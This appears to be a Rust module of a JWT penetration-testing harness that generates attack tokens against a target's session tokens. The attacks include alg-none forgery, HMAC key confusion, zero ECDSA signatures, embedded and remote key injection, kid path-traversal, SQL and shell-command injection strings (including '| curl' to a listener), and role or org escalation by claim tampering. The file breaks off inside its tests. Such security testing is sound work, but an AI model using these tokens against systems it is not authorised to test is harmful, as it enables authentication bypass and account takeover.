//! Every attack token of TOK-001..025, built from one valid session token
//! of the target and its public JWKS. Structure-aware: each case rewrites
//! the decoded header, claims or signature and re-encodes only what it
//! changed, so the rest of the token stays byte for byte what the target
//! issued.
//!
//! Three kinds of case:
//! - *unsigned*: claims or header altered, the original signature kept —
//!   proves the signature covers what was altered;
//! - *attacker-signed*: signed with a key or secret the attacker has (its own
//!   RSA/EC keys, HMAC secrets, the public key as a secret, no signature);
//! - *re-signed*: valid signatures over chosen claims, to probe the claim
//!   checks themselves (expiry, issuer, `azp`, `sid`, `sts`, …). Only when
//!   the harness holds the target's signing key (the `mint` source, or an
//!   operator who hands it over); otherwise these are not built and the
//!   checks that need them rely on the unsigned cases and on tokens the
//!   identity service itself issues (see the runner).

use serde_json::{json, Map, Value};

use super::jwt::{assemble, encode_object, Jwt, JwtError};
use super::keys::{hs256, AttackerKeys, KeyError, PublicEncodings, RsaAlg, RsaKey};
use super::listener::KeyUrlListener;

/// How a case's answer is judged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Judge {
    /// Must be refused (401/403); accepted or 5xx is a finding.
    MustRefuse,
    /// Only a 5xx is a finding (type fuzz over validly signed claims: an
    /// optional claim set to null may well be accepted).
    NoServerError,
    /// Must be refused, and the answer must not carry [`REFLECT_MARKER`]:
    /// a claim echoed back from a token whose signature does not verify
    /// was processed before the signature was checked (jwt_tool's "claim
    /// processing order" check).
    MustRefuseUnechoed,
}

/// The value planted in claims by the [`Judge::MustRefuseUnechoed`] cases.
pub const REFLECT_MARKER: &str = "tenantry-reflect-";

/// Whether `reply` (headers or body) carries [`REFLECT_MARKER`].
pub fn echoes_marker(reply: &crate::client::Reply) -> bool {
    let text = reply.scan_text();
    text.windows(REFLECT_MARKER.len())
        .any(|w| w == REFLECT_MARKER.as_bytes())
}

/// Header parameters jwt_tool's common-claims mode sets (its
/// `common-headers.txt`).
pub const COMMON_HEADERS: &[&str] = &["typ", "jku", "kid", "x5u", "x5t", "url"];

/// Payload claims applications commonly read for identity and privilege,
/// set by the common-claims cases (jwt_tool's `common-payloads.txt` idea).
pub const COMMON_CLAIMS: &[&str] = &[
    "sub",
    "aud",
    "jti",
    "scope",
    "role",
    "roles",
    "admin",
    "is_admin",
    "user",
    "username",
    "email",
    "org_id",
    "org_role",
    "permissions",
    "tenant",
    "url",
];

/// How the token travels.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Delivery {
    /// Where the profile puts tokens (header or `__session` cookie).
    Token(String),
    /// Exactly these headers (TOK-025: header and cookie disagree).
    Headers(Vec<(String, String)>),
}

/// One attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Case {
    /// Check id (`TOK-003`).
    pub check: &'static str,
    /// What this variant does.
    pub variant: String,
    /// Signed with the target's own key (only with a held signing key).
    pub resigned: bool,
    /// How the answer is judged.
    pub judge: Judge,
    /// The token(s) sent.
    pub delivery: Delivery,
}

impl Case {
    /// A case that must be refused.
    pub fn refuse(check: &'static str, variant: impl Into<String>, token: String) -> Self {
        Self {
            check,
            variant: variant.into(),
            resigned: false,
            judge: Judge::MustRefuse,
            delivery: Delivery::Token(token),
        }
    }

    /// The tokens this case sends.
    pub fn tokens(&self) -> Vec<&str> {
        match &self.delivery {
            Delivery::Token(t) => vec![t.as_str()],
            Delivery::Headers(h) => h.iter().map(|(_, v)| v.as_str()).collect(),
        }
    }
}

/// Why the cases could not be built.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum BuildError {
    /// The valid token is not a JWS.
    #[error("the valid session token: {0}")]
    Token(#[from] JwtError),
    /// The JWKS has no RSA key for the token's `kid`.
    #[error("the JWKS has no RSA key with kid `{0}`")]
    NoKeyForKid(String),
    /// A key operation failed.
    #[error(transparent)]
    Key(#[from] KeyError),
}

/// What the cases are built from.
#[derive(Debug)]
pub struct Material<'a> {
    /// A valid session token of the target (org-scoped).
    pub token: &'a str,
    /// The target's public JWKS.
    pub jwks: &'a Value,
    /// The attacker's keys.
    pub attacker: &'a AttackerKeys,
    /// The target's signing key, when the harness holds it.
    pub signing_key: Option<&'a RsaKey>,
    /// TOK-010's listener, if one runs.
    pub key_urls: Option<&'a KeyUrlListener>,
    /// Another org (id, slug) for TOK-023.
    pub foreign_org: Option<(&'a str, &'a str)>,
    /// Now, seconds since the epoch (the target's clock is assumed close).
    pub now: i64,
}

/// HS256 secrets of TOK-005 besides those derived from the token.
pub const COMMON_SECRETS: &[&str] = &[
    "secret",
    "password",
    "123456",
    "changeme",
    "your-256-bit-secret",
    "jwt",
    "key",
    "test",
];

/// The other app of TOK-024.
pub const FOREIGN_APP: &str = "https://another-app.tenantry.invalid";

type Claims = Map<String, Value>;

struct Builder<'a> {
    m: &'a Material<'a>,
    jwt: Jwt,
    cases: Vec<Case>,
}

fn header(alg: &str, kid: Option<&str>) -> Claims {
    let mut h = Map::new();
    h.insert("alg".into(), alg.into());
    h.insert("typ".into(), "JWT".into());
    if let Some(kid) = kid {
        h.insert("kid".into(), kid.into());
    }
    h
}

impl Builder<'_> {
    fn push(&mut self, check: &'static str, variant: impl Into<String>, token: String) {
        self.cases.push(Case::refuse(check, variant, token));
    }

    fn kid(&self) -> Option<String> {
        self.jwt.kid().map(String::from)
    }

    /// The original header and claims, claims altered, signature kept.
    fn unsigned(&self, claims: &Claims) -> String {
        self.jwt.with_original_signature(&self.jwt.header, claims)
    }

    fn hs(&self, h: &Claims, claims: &Claims, secret: &[u8]) -> String {
        let input = self.jwt.signing_input(h, claims);
        assemble(&input, &hs256(secret, &input))
    }

    fn attacker_rsa(&self, h: &Claims, alg: RsaAlg) -> Result<String, KeyError> {
        let input = self.jwt.signing_input(h, &self.jwt.claims);
        Ok(assemble(&input, &self.m.attacker.rsa.sign(alg, &input)?))
    }

    /// `claims` under `h`, validly signed with the target's key.
    fn resigned(&self, h: &Claims, claims: &Claims) -> Result<Option<String>, KeyError> {
        let Some(key) = self.m.signing_key else {
            return Ok(None);
        };
        let input = self.jwt.signing_input(h, claims);
        Ok(Some(assemble(&input, &key.sign(RsaAlg::Rs256, &input)?)))
    }

    /// The claims mutation `f` as an unsigned case and, with a held key, a
    /// re-signed one.
    fn claims_case(
        &mut self,
        check: &'static str,
        variant: &str,
        judge: Judge,
        f: impl Fn(&mut Claims),
    ) -> Result<(), KeyError> {
        let mut claims = self.jwt.claims.clone();
        f(&mut claims);
        // Unsigned, any acceptance is a finding: the signature went unchecked.
        let unsigned = Case::refuse(
            check,
            format!("{variant} (original signature)"),
            self.unsigned(&claims),
        );
        self.cases.push(unsigned);
        if let Some(token) = self.resigned(&self.jwt.header.clone(), &claims)? {
            self.cases.push(Case {
                check,
                variant: format!("{variant} (re-signed with the target's key)"),
                resigned: true,
                judge,
                delivery: Delivery::Token(token),
            });
        }
        Ok(())
    }

    fn signatures(&mut self) {
        let input = self.jwt.signing_input(&self.jwt.header, &self.jwt.claims);
        let sig = self.jwt.signature.clone();
        let flip = |i: usize| {
            let mut s = sig.clone();
            if let Some(b) = s.get_mut(i) {
                *b ^= 0x01;
            }
            s
        };
        let last = sig.len().saturating_sub(1);
        self.push(
            "TOK-001",
            "last signature byte flipped",
            assemble(&input, &flip(last)),
        );
        self.push(
            "TOK-001",
            "first signature byte flipped",
            assemble(&input, &flip(0)),
        );
        self.push(
            "TOK-001",
            "signature truncated by one byte",
            assemble(&input, &sig[..last]),
        );
        self.push(
            "TOK-001",
            "signature of the original token over altered claims (sub changed)",
            {
                let mut claims = self.jwt.claims.clone();
                claims.insert("sub".into(), "user_tenantry_attacker".into());
                self.unsigned(&claims)
            },
        );
        self.push("TOK-002", "empty signature (h.p.)", format!("{input}."));
        self.push("TOK-002", "no signature segment (h.p)", input.clone());
    }

    fn alg_none(&mut self) {
        let kid = self.kid();
        let variants: [(&str, Option<&str>); 6] = [
            ("alg none", Some("none")),
            ("alg None", Some("None")),
            ("alg NONE", Some("NONE")),
            ("alg nOnE", Some("nOnE")),
            ("alg missing", None),
            ("alg empty", Some("")),
        ];
        for (label, alg) in variants {
            let mut h = header("", kid.as_deref());
            match alg {
                Some(alg) => {
                    h.insert("alg".into(), alg.into());
                }
                None => {
                    h.remove("alg");
                }
            }
            let input = self.jwt.signing_input(&h, &self.jwt.claims);
            self.push("TOK-003", format!("{label}, no signature"), format!("{input}."));
            self.push(
                "TOK-003",
                format!("{label}, original signature kept"),
                assemble(&input, &self.jwt.signature),
            );
        }
    }

    fn hmac(&mut self, encodings: &PublicEncodings) {
        let kid = self.kid();
        let h = header("HS256", kid.as_deref());
        let claims = self.jwt.claims.clone();
        self.push("TOK-004", "HS256 with an empty key", self.hs(&h, &claims, b""));
        let mut secrets: Vec<(String, Vec<u8>)> = COMMON_SECRETS
            .iter()
            .map(|s| (format!("HS256 with `{s}`"), s.as_bytes().to_vec()))
            .collect();
        if let Some(kid) = &kid {
            secrets.push(("HS256 with the kid as secret".into(), kid.clone().into_bytes()));
        }
        for claim in ["iss", "azp"] {
            if let Some(v) = self.jwt.claims.get(claim).and_then(Value::as_str) {
                secrets.push((format!("HS256 with the {claim} as secret"), v.as_bytes().to_vec()));
            }
        }
        for (label, secret) in secrets {
            self.push("TOK-005", label, self.hs(&h, &claims, &secret));
        }
        for (label, secret) in encodings.hmac_secrets() {
            self.push(
                "TOK-006",
                format!("HS256 keyed with the public key as {label}"),
                self.hs(&h, &claims, &secret),
            );
        }
        // Key confusion is not specific to SHA-256.
        let h512 = header("HS512", kid.as_deref());
        let input = self.jwt.signing_input(&h512, &claims);
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA512, encodings.spki_pem().as_bytes());
        let sig = aws_lc_rs::hmac::sign(&key, input.as_bytes());
        self.push(
            "TOK-006",
            "HS512 keyed with the public key as SPKI PEM with trailing newline",
            assemble(&input, sig.as_ref()),
        );
    }

    fn psychic(&mut self) {
        let kid = self.kid();
        let h = header("ES256", kid.as_deref());
        let input = self.jwt.signing_input(&h, &self.jwt.claims);
        self.push(
            "TOK-007",
            "ES256, r = s = 0 (64 zero bytes)",
            assemble(&input, &[0u8; 64]),
        );
        self.push(
            "TOK-007",
            "ES256, r = s = 0 DER-encoded",
            assemble(&input, &[0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]),
        );
        let h = header("ES384", kid.as_deref());
        let input = self.jwt.signing_input(&h, &self.jwt.claims);
        self.push(
            "TOK-007",
            "ES384, r = s = 0 (96 zero bytes)",
            assemble(&input, &[0u8; 96]),
        );
    }

    fn foreign_keys(&mut self) -> Result<(), KeyError> {
        let kid = self.kid();
        for alg in [RsaAlg::Rs256, RsaAlg::Rs512, RsaAlg::Ps256] {
            let token = self.attacker_rsa(&header(alg.name(), kid.as_deref()), alg)?;
            self.push(
                "TOK-008",
                format!(
                    "{} signed by the attacker's RSA key under the real kid",
                    alg.name()
                ),
                token,
            );
        }
        let token = self.attacker_rsa(&header("RS256", None), RsaAlg::Rs256)?;
        self.push("TOK-008", "RS256 signed by the attacker's RSA key, no kid", token);
        let h = header("ES256", kid.as_deref());
        let input = self.jwt.signing_input(&h, &self.jwt.claims);
        let token = assemble(&input, &self.m.attacker.ec.sign(&input)?);
        self.push(
            "TOK-008",
            "ES256 signed by the attacker's P-256 key under the real kid",
            token,
        );

        // TOK-009: the key travels in the token.
        let attacker = &self.m.attacker;
        for (label, kid) in [
            ("the real kid", kid.clone()),
            ("the attacker's kid", Some(attacker.rsa.kid.clone())),
        ] {
            let mut h = header("RS256", kid.as_deref());
            let mut jwk = attacker.rsa.jwk();
            if let Some(kid) = &kid {
                jwk["kid"] = kid.as_str().into();
            }
            h.insert("jwk".into(), jwk);
            let token = self.attacker_rsa(&h, RsaAlg::Rs256)?;
            self.push("TOK-009", format!("embedded RSA jwk, {label}"), token);
        }
        let mut h = header("ES256", Some(&attacker.ec.kid));
        h.insert("jwk".into(), attacker.ec.jwk());
        let input = self.jwt.signing_input(&h, &self.jwt.claims);
        let token = assemble(&input, &attacker.ec.sign(&input)?);
        self.push("TOK-009", "embedded P-256 jwk", token);
        Ok(())
    }

    fn key_urls(&mut self) -> Result<(), KeyError> {
        let kid = self.kid();
        let attacker = &self.m.attacker;
        let certificate =
            base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &attacker.certificate);
        let mut h = header("RS256", kid.as_deref());
        h.insert("x5c".into(), json!([certificate]));
        let token = self.attacker_rsa(&h, RsaAlg::Rs256)?;
        self.push(
            "TOK-010",
            "x5c: the attacker's self-signed certificate, real kid",
            token,
        );
        let mut h = header("RS256", None);
        h.insert("x5c".into(), json!([certificate]));
        let token = self.attacker_rsa(&h, RsaAlg::Rs256)?;
        self.push(
            "TOK-010",
            "x5c: the attacker's self-signed certificate, no kid",
            token,
        );
        let Some(urls) = self.m.key_urls else {
            return Ok(());
        };
        let variants = [
            ("jku", "jku-real-kid", kid.clone()),
            ("jku", "jku-attacker-kid", Some(attacker.rsa.kid.clone())),
            ("x5u", "x5u-real-kid", kid.clone()),
        ];
        for (param, label, kid) in variants {
            let url = if param == "jku" {
                urls.jku(label)
            } else {
                urls.x5u(label)
            };
            let mut h = header("RS256", kid.as_deref());
            h.insert(param.into(), url.clone().into());
            let token = self.attacker_rsa(&h, RsaAlg::Rs256)?;
            self.push(
                "TOK-010",
                format!("{param} -> the suite's loopback listener ({label})"),
                token,
            );
        }
        Ok(())
    }

    fn kid_injection(&mut self) -> Result<(), KeyError> {
        let claims = self.jwt.claims.clone();
        // The key the injection would select, when it works.
        let h = header("HS256", Some("../../../../../../../dev/null"));
        self.push(
            "TOK-011",
            "kid ../../../../../../../dev/null, HS256 with an empty key",
            self.hs(&h, &claims, b""),
        );
        let h = header("HS256", Some("/dev/null"));
        self.push(
            "TOK-011",
            "kid /dev/null, HS256 with an empty key",
            self.hs(&h, &claims, b""),
        );
        let h = header("HS256", Some("x' UNION SELECT 'tenantry' -- "));
        self.push(
            "TOK-011",
            "kid SQL injection UNION SELECT 'tenantry', HS256 keyed with `tenantry`",
            self.hs(&h, &claims, b"tenantry"),
        );
        for kid in ["' OR '1'='1", "|id", "; id", "$(id)", "`id`"] {
            let token = self.attacker_rsa(&header("RS256", Some(kid)), RsaAlg::Rs256)?;
            self.push(
                "TOK-011",
                format!("kid {kid:?}, signed by the attacker's key"),
                token,
            );
        }
        for (label, kid) in [
            ("unknown kid", json!("tenantry-unknown-kid")),
            ("empty kid", json!("")),
            ("kid null", Value::Null),
            ("kid a number", json!(0)),
            ("kid an array", json!([])),
        ] {
            let mut h = header("RS256", None);
            h.insert("kid".into(), kid);
            let token = self.attacker_rsa(&h, RsaAlg::Rs256)?;
            self.push("TOK-011", format!("{label}, signed by the attacker's key"), token);
        }
        Ok(())
    }

    /// The cases of jwt_tool's all-tests mode that the families above do
    /// not already make: its remaining `kid` injections, every header
    /// parameter fuzzed (forced errors), common header and payload claims
    /// set to odd values and to URLs (common claims), every claim set to a
    /// URL (external interactions) and to a marker that must not be echoed
    /// (claim processing order). All keep the original signature, so any
    /// acceptance means the signature went unchecked.
    fn jwt_tool_playbook(&mut self) {
        let claims = self.jwt.claims.clone();
        let cut = self.jwt.with_signature_text_cut(4);
        self.push("TOK-001", "signature text cut by 4 characters", cut);
        let header_kid = |kid: &str| header("HS256", Some(kid));
        for (kid, secret, label) in [
            ("", &b""[..], "blank kid, HS256 with an empty key"),
            ("/invalid_path", b"", "kid /invalid_path, HS256 with an empty key"),
            (
                "|sleep 10",
                b"",
                "kid \"|sleep 10\" (command injection), HS256 with an empty key",
            ),
            (
                "x' UNION SELECT '1';--",
                b"1",
                "kid SQL injection UNION SELECT '1', HS256 keyed with `1`",
            ),
        ] {
            let token = self.hs(&header_kid(kid), &claims, secret);
            self.push("TOK-011", label, token);
        }
        if let Some(urls) = self.m.key_urls {
            let kid = format!("| curl {}", urls.ping("kid-rce"));
            let token = self.hs(&header_kid(&kid), &claims, b"");
            self.push(
                "TOK-011",
                "kid \"| curl <listener>\" (command injection), HS256 with an empty key",
                token,
            );
        }

        let values: [(&str, Value); 5] = [
            ("null", Value::Null),
            ("true", json!(true)),
            ("false", json!(false)),
            ("a string", json!("tenantry")),
            ("0", json!(0)),
        ];
        let original = self.jwt.header.clone();
        let with_header = |name: &str, value: &Value| {
            let mut h = original.clone();
            h.insert(name.to_string(), value.clone());
            h
        };
        let mut header_names: Vec<String> = original.keys().cloned().collect();
        header_names.extend(
            COMMON_HEADERS
                .iter()
                .filter(|n| !original.contains_key(**n))
                .map(|n| n.to_string()),
        );
        for name in &header_names {
            for (label, value) in &values {
                let token = self
                    .jwt
                    .with_original_signature(&with_header(name, value), &claims);
                self.push(
                    "TOK-012",
                    format!("header `{name}` as {label} (original signature)"),
                    token,
                );
            }
        }
        let mut claim_names: Vec<String> = claims.keys().cloned().collect();
        claim_names.extend(
            COMMON_CLAIMS
                .iter()
                .filter(|n| !claims.contains_key(**n))
                .map(|n| n.to_string()),
        );
        for name in claim_names.iter().filter(|n| !claims.contains_key(n.as_str())) {
            for (label, value) in &values {
                let mut c = claims.clone();
                c.insert(name.clone(), value.clone());
                self.push(
                    "TOK-012",
                    format!("claim `{name}` added as {label} (original signature)"),
                    self.unsigned(&c),
                );
            }
        }
        for name in claims.keys() {
            let mut c = claims.clone();
            c.insert(name.clone(), json!(format!("{REFLECT_MARKER}{name}")));
            self.cases.push(Case {
                judge: Judge::MustRefuseUnechoed,
                ..Case::refuse(
                    "TOK-001",
                    format!(
                        "claim `{name}` replaced with a marker that must not be echoed (original signature)"
                    ),
                    self.unsigned(&c),
                )
            });
        }
        let Some(urls) = self.m.key_urls else {
            return;
        };
        for name in &header_names {
            let url = json!(urls.ping(&format!("header-{name}")));
            let token = self
                .jwt
                .with_original_signature(&with_header(name, &url), &claims);
            self.push(
                "TOK-010",
                format!("header `{name}` -> the suite's listener (original signature)"),
                token,
            );
        }
        for name in &claim_names {
            let mut c = claims.clone();
            c.insert(name.clone(), json!(urls.ping(&format!("claim-{name}"))));
            self.push(
                "TOK-010",
                format!("claim `{name}` -> the suite's listener (original signature)"),
                self.unsigned(&c),
            );
        }
    }

    fn type_fuzz(&mut self) -> Result<(), KeyError> {
        let samples: [(&str, Value); 7] = [
            ("null", Value::Null),
            ("a bool", json!(true)),
            ("false", json!(false)),
            ("a string", json!("tenantry")),
            ("a number", json!(0)),
            ("an array", json!([])),
            ("an object", json!({})),
        ];
        let same_type = |a: &Value, b: &Value| std::mem::discriminant(a) == std::mem::discriminant(b);
        let mut paths: Vec<(String, Option<String>)> =
            self.jwt.claims.keys().map(|k| (k.clone(), None)).collect();
        if let Some(Value::Object(o)) = self.jwt.claims.get("o") {
            paths.extend(o.keys().map(|k| ("o".to_string(), Some(k.clone()))));
        }
        for (claim, member) in paths {
            let current = match &member {
                None => self.jwt.claims[&claim].clone(),
                Some(m) => self.jwt.claims[&claim][m].clone(),
            };
            let name = match &member {
                None => claim.clone(),
                Some(m) => format!("{claim}.{m}"),
            };
            for (label, value) in &samples {
                if same_type(&current, value) {
                    continue;
                }
                let (claim, member, value) = (claim.clone(), member.clone(), value.clone());
                self.claims_case(
                    "TOK-012",
                    &format!("`{name}` as {label}"),
                    Judge::NoServerError,
                    move |c| match &member {
                        None => {
                            c.insert(claim.clone(), value.clone());
                        }
                        Some(m) => {
                            if let Some(Value::Object(o)) = c.get_mut(&claim) {
                                o.insert(m.clone(), value.clone());
                            }
                        }
                    },
                )?;
            }
        }
        Ok(())
    }

    fn claims(&mut self) -> Result<(), KeyError> {
        let now = self.m.now;
        let set = |k: &'static str, v: Value| {
            move |c: &mut Claims| {
                c.insert(k.into(), v.clone());
            }
        };
        let remove = |k: &'static str| {
            move |c: &mut Claims| {
                c.remove(k);
            }
        };
        let must = Judge::MustRefuse;
        self.claims_case("TOK-013", "exp one hour ago", must, set("exp", json!(now - 3600)))?;
        self.claims_case(
            "TOK-013",
            "exp 10 s ago (beyond a 5 s leeway)",
            must,
            set("exp", json!(now - 10)),
        )?;
        self.claims_case("TOK-013", "exp removed", must, remove("exp"))?;
        self.claims_case(
            "TOK-014",
            "nbf one hour ahead",
            must,
            set("nbf", json!(now + 3600)),
        )?;
        self.claims_case(
            "TOK-014",
            "nbf 10 s ahead (beyond a 5 s leeway)",
            must,
            set("nbf", json!(now + 10)),
        )?;
        self.claims_case(
            "TOK-014",
            "iat one hour ahead",
            must,
            set("iat", json!(now + 3600)),
        )?;
        self.claims_case("TOK-015", "exp \"never\"", must, set("exp", json!("never")))?;
        self.claims_case(
            "TOK-015",
            "exp a numeric string a year ahead",
            must,
            set("exp", json!((now + 31_536_000).to_string())),
        )?;
        self.claims_case("TOK-015", "nbf \"0\"", must, set("nbf", json!("0")))?;
        self.claims_case("TOK-015", "iat \"now\"", must, set("iat", json!("now")))?;
        let iss = self
            .jwt
            .claims
            .get("iss")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        self.claims_case(
            "TOK-016",
            "iss another issuer",
            must,
            set("iss", json!("https://clerk.evil.invalid")),
        )?;
        self.claims_case(
            "TOK-016",
            "iss with a trailing slash",
            must,
            set("iss", json!(format!("{iss}/"))),
        )?;
        self.claims_case(
            "TOK-016",
            "iss upper-cased",
            must,
            set("iss", json!(iss.to_ascii_uppercase())),
        )?;
        self.claims_case("TOK-016", "iss removed", must, remove("iss"))?;
        self.claims_case(
            "TOK-017",
            "iss an array of the issuer",
            must,
            set("iss", json!([iss])),
        )?;
        self.claims_case(
            "TOK-017",
            "iss an array of another issuer and the issuer",
            must,
            set("iss", json!(["https://clerk.evil.invalid", iss])),
        )?;
        self.claims_case(
            "TOK-018",
            "sid removed (a template token's shape)",
            must,
            remove("sid"),
        )?;
        self.crit()?;
        if let Some(azp) = self
            .jwt
            .claims
            .get("azp")
            .and_then(Value::as_str)
            .map(String::from)
        {
            self.claims_case("TOK-020", "azp removed", must, remove("azp"))?;
            self.claims_case("TOK-020", "azp empty", must, set("azp", json!("")))?;
            self.claims_case(
                "TOK-020",
                "azp with a suffix (prefix matching)",
                must,
                set("azp", json!(format!("{azp}.evil.invalid"))),
            )?;
            self.claims_case(
                "TOK-020",
                "azp upper-cased",
                must,
                set("azp", json!(azp.to_ascii_uppercase())),
            )?;
        }
        self.claims_case("TOK-021", "sts pending", must, set("sts", json!("pending")))?;
        self.claims_case("TOK-021", "sts removed", must, remove("sts"))?;
        self.claims_case(
            "TOK-024",
            "azp another app of the instance",
            must,
            set("azp", json!(FOREIGN_APP)),
        )?;
        self.tamper();
        Ok(())
    }

    fn crit(&mut self) -> Result<(), KeyError> {
        for (label, crit, extra) in [
            (
                "crit with an unknown extension",
                json!(["x-tenantry"]),
                Some(("x-tenantry", json!(true))),
            ),
            ("crit naming a registered claim (exp)", json!(["exp"]), None),
        ] {
            let mut h = self.jwt.header.clone();
            h.insert("crit".into(), crit);
            if let Some((k, v)) = extra {
                h.insert(k.into(), v);
            }
            let claims = self.jwt.claims.clone();
            let unsigned = self.jwt.with_original_signature(&h, &claims);
            self.push("TOK-019", format!("{label} (original signature)"), unsigned);
            if let Some(token) = self.resigned(&h, &claims)? {
                self.cases.push(Case {
                    check: "TOK-019",
                    variant: format!("{label} (re-signed with the target's key)"),
                    resigned: true,
                    judge: Judge::MustRefuse,
                    delivery: Delivery::Token(token),
                });
            }
        }
        Ok(())
    }

    /// TOK-022/023 (never re-signed: the point is tampering) and TOK-025.
    fn tamper(&mut self) {
        let role = self
            .jwt
            .claims
            .get("o")
            .and_then(|o| o.get("rol"))
            .and_then(Value::as_str);
        let elevated = if role == Some("admin") { "owner" } else { "admin" };
        let base = self.jwt.claims.clone();
        let with_o = |f: &dyn Fn(&mut Map<String, Value>)| {
            let mut claims = base.clone();
            let o = claims.entry("o").or_insert_with(|| json!({}));
            if !o.is_object() {
                *o = json!({});
            }
            if let Value::Object(o) = o {
                f(o);
            }
            claims
        };
        let role_tampered = self.unsigned(&with_o(&|o| {
            o.insert("rol".into(), elevated.into());
        }));
        self.push("TOK-022", format!("o.rol -> {elevated}"), role_tampered.clone());
        let widened = self.unsigned(&with_o(&|o| {
            o.insert("per".into(), "manage,read,write,delete".into());
            o.insert("fpm".into(), "15,15,15".into());
        }));
        self.push("TOK-022", "o.per/o.fpm widened", widened);
        let mut v1 = self.jwt.claims.clone();
        v1.insert("org_role".into(), format!("org:{elevated}").into());
        v1.insert("org_permissions".into(), json!(["org:sys_memberships:manage"]));
        self.push("TOK-022", "v1 org_role/org_permissions added", self.unsigned(&v1));
        if let Some((id, slug)) = self.m.foreign_org {
            let token = self.unsigned(&with_o(&|o| {
                o.insert("id".into(), id.into());
            }));
            self.push("TOK-023", "o.id -> another org", token);
            let token = self.unsigned(&with_o(&|o| {
                o.insert("id".into(), id.into());
                o.insert("slg".into(), slug.into());
            }));
            self.push("TOK-023", "o.id and o.slg -> another org", token);
            let mut v1 = self.jwt.claims.clone();
            v1.insert("org_id".into(), id.into());
            self.push("TOK-023", "v1 org_id -> another org", self.unsigned(&v1));
        }
        let valid = self.m.token.to_string();
        let none = format!(
            "{}.{}.",
            encode_object(&header("none", None)),
            self.jwt.encoded_claims(&self.jwt.claims)
        );
        let conflicts = [
            (
                "Authorization valid, __session with o.rol elevated",
                vec![
                    ("authorization", format!("Bearer {valid}")),
                    ("cookie", format!("__session={role_tampered}")),
                ],
            ),
            (
                "Authorization valid, __session alg none",
                vec![
                    ("authorization", format!("Bearer {valid}")),
                    ("cookie", format!("__session={none}")),
                ],
            ),
            (
                "__session valid, Authorization with o.rol elevated",
                vec![
                    ("authorization", format!("Bearer {role_tampered}")),
                    ("cookie", format!("__session={valid}")),
                ],
            ),
            (
                "Authorization valid, two __session cookies (valid, o.rol elevated)",
                vec![
                    ("authorization", format!("Bearer {valid}")),
                    ("cookie", format!("__session={valid}; __session={role_tampered}")),
                ],
            ),
        ];
        for (label, headers) in conflicts {
            self.cases.push(Case {
                check: "TOK-025",
                variant: label.into(),
                resigned: false,
                judge: Judge::MustRefuse,
                delivery: Delivery::Headers(headers.into_iter().map(|(k, v)| (k.to_string(), v)).collect()),
            });
        }
    }
}

/// Every case of the catalogue for `m`, in check order.
pub fn build(m: &Material<'_>) -> Result<Vec<Case>, BuildError> {
    let jwt = Jwt::parse(m.token)?;
    let kid = jwt.kid().unwrap_or_default().to_string();
    let jwk = m
        .jwks
        .get("keys")
        .and_then(Value::as_array)
        .and_then(|keys| {
            keys.iter()
                .find(|k| k.get("kid").and_then(Value::as_str) == Some(kid.as_str()))
        })
        .ok_or_else(|| BuildError::NoKeyForKid(kid.clone()))?;
    let encodings = PublicEncodings::from_jwk(jwk)?;
    let mut b = Builder {
        m,
        jwt,
        cases: Vec::new(),
    };
    b.signatures();
    b.alg_none();
    b.hmac(&encodings);
    b.psychic();
    b.foreign_keys()?;
    b.key_urls()?;
    b.kid_injection()?;
    b.type_fuzz()?;
    b.jwt_tool_playbook();
    b.claims()?;
    let mut cases = b.cases;
    cases.sort_by_key(|c| c.check);
    Ok(cases)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tokens::jwt::{b64, unb64};
    use aws_lc_rs::signature::{UnparsedPublicKey, RSA_PKCS1_2048_8192_SHA256};

    const NOW: i64 = 1_800_000_000;

    struct Fixture {
        target: RsaKey,
        attacker: AttackerKeys,
        jwks: Value,
        token: String,
    }

    fn fixture() -> Fixture {
        let target = RsaKey::generate("ins_target").unwrap();
        let claims = json!({
            "sub": "user_1", "sid": "sess_1", "iss": "https://clerk.app.test",
            "azp": "http://localhost:3000", "exp": NOW + 60, "iat": NOW, "nbf": NOW - 5,
            "jti": "j1", "v": 2, "sts": "active", "fva": [0, -1],
            "o": { "id": "org_a", "rol": "member", "slg": "acme" },
        });
        let input = format!(
            "{}.{}",
            b64(json!({ "alg": "RS256", "typ": "JWT", "kid": "ins_target" })
                .to_string()
                .as_bytes()),
            b64(claims.to_string().as_bytes())
        );
        let token = assemble(&input, &target.sign(RsaAlg::Rs256, &input).unwrap());
        Fixture {
            jwks: json!({ "keys": [target.jwk()] }),
            attacker: AttackerKeys::generate().unwrap(),
            target,
            token,
        }
    }

    fn cases(f: &Fixture, resign: bool) -> Vec<Case> {
        build(&Material {
            token: &f.token,
            jwks: &f.jwks,
            attacker: &f.attacker,
            signing_key: resign.then_some(&f.target),
            key_urls: None,
            foreign_org: Some(("org_b", "beta")),
            now: NOW,
        })
        .unwrap()
    }

    fn token(case: &Case) -> &str {
        match &case.delivery {
            Delivery::Token(t) => t,
            Delivery::Headers(_) => panic!("{} sends headers", case.variant),
        }
    }

    fn find<'a>(cases: &'a [Case], check: &str, variant: &str) -> &'a Case {
        cases
            .iter()
            .find(|c| c.check == check && c.variant == variant)
            .unwrap_or_else(|| panic!("no {check} case `{variant}`"))
    }

    fn verifies_with(key: &RsaKey, token: &str) -> bool {
        let (input, sig) = token.rsplit_once('.').unwrap();
        let spki = PublicEncodings::from_jwk(&key.jwk()).unwrap();
        // A signature that is not even base64url (a cut one) verifies with nothing.
        unb64(sig).is_some_and(|sig| {
            UnparsedPublicKey::new(&RSA_PKCS1_2048_8192_SHA256, &spki.pkcs1_der)
                .verify(input.as_bytes(), &sig)
                .is_ok()
        })
    }

    #[test]
    fn every_check_has_cases_and_every_id_is_in_the_catalogue() {
        let f = fixture();
        let all = cases(&f, true);
        for n in 1..=25 {
            let id = format!("TOK-{n:03}");
            assert!(all.iter().any(|c| c.check == id), "{id} has no case");
        }
        for c in &all {
            assert!(crate::checks::find(c.check).is_some(), "{}", c.check);
        }
        let mut seen = std::collections::HashSet::new();
        for c in &all {
            assert!(
                seen.insert((c.check, c.variant.clone())),
                "duplicate {} {}",
                c.check,
                c.variant
            );
        }
        // Without the signing key nothing is re-signed, and no attack token
        // carries a valid signature of the target over altered content.
